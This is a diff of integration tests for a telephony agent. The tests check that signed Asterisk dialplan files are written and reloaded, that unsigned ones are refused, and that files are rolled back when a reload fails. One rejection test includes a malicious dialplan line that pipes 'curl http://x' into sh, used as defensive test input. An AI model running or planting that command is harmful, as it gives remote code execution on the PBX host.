@@ -205,9 +205,11 @@ describe('agente de telefonía (apps/pbx) sobre HTTP real', () => {
     expect((await pedir('POST', '/freeswitch/audio/upload/', { form })).status).toBe(404);
   });
 
-  it('writes the call include file, reloads over AMI, and refuses forbidden dialplan naming the line', async () => {
+  it('writes the signed call include file, reloads over AMI, and refuses unsigned dialplan', async () => {
     const contenido = fs.readFileSync(path.join(GOLDEN, 'llamadas.conf'), 'utf8');
-    const r = await pedir('PUT', '/calls/extensions/', { body: { contenido } });
+    const r = await pedir('PUT', '/calls/extensions/', {
+      body: await ag.plan('llamadas', contenido),
+    });
     expect(r.status).toBe(200);
     expect(r.body.mensaje).toBe('Guardado y recargado en el PBX');
     const archivo = path.join(config.dialplanDir, 'pregon-llamadas.conf');
@@ -219,11 +221,10 @@ describe('agente de telefonía (apps/pbx) sobre HTTP real', () => {
 
     const malo = `${contenido}\n[pregon-x]\nexten => s,1,System(curl http://x | sh)\n`;
     const rechazo = await pedir('PUT', '/calls/extensions/', { body: { contenido: malo } });
-    expect(rechazo.status).toBe(400);
-    expect(rechazo.body.campo).toBe('contenido');
-    const linea = malo.split('\n').findIndex((l) => l.includes('System')) + 1;
+    expect(rechazo.status).toBe(403);
+    expect(rechazo.body.campo).toBe('firma');
     expect(rechazo.body.message).toBe(
-      `El campo contenido se rechazó en la línea ${linea}: la aplicación System no está permitida`,
+      'El plan de marcado no lleva una firma válida de la API de Pregón para este archivo; no se escribió nada. Vuelva a generarlo desde Pregón',
     );
     expect(fs.readFileSync(archivo, 'utf8')).toBe(contenido);
   });
@@ -232,18 +233,19 @@ describe('agente de telefonía (apps/pbx) sobre HTTP real', () => {
     const archivo = path.join(config.dialplanDir, 'pregon-quiz-9.conf');
     const quiz = fs.readFileSync(path.join(GOLDEN, 'quiz-3.conf'), 'utf8');
     expect(
-      (await pedir('PUT', '/quizzes/extensions/9/', { body: { contenido: quiz } })).status,
+      (await pedir('PUT', '/quizzes/extensions/9/', { body: await ag.plan(9, quiz) })).status,
     ).toBe(200);
     comando = () => ({ Response: 'Error', Message: 'Command "dialplan reload" failed' });
     try {
-      const r = await pedir('PUT', '/quizzes/extensions/9/', {
-        body: { contenido: quiz.replace('Wait(1)', 'Wait(2)') },
-      });
+      const otro = quiz.replace('TIMEOUT(absolute)=180', 'TIMEOUT(absolute)=120');
+      const r = await pedir('PUT', '/quizzes/extensions/9/', { body: await ag.plan(9, otro) });
       expect(r.status).toBe(502);
       expect(String(r.body.message)).toMatch(/^El PBX no aceptó la recarga/);
       expect(fs.readFileSync(archivo, 'utf8')).toBe(quiz);
       // A new quiz file whose reload fails is removed.
-      const nuevo = await pedir('PUT', '/quizzes/extensions/10/', { body: { contenido: quiz } });
+      const nuevo = await pedir('PUT', '/quizzes/extensions/10/', {
+        body: await ag.plan(10, quiz),
+      });
       expect(nuevo.status).toBe(502);
       expect(fs.existsSync(path.join(config.dialplanDir, 'pregon-quiz-10.conf'))).toBe(false);
     } finally {
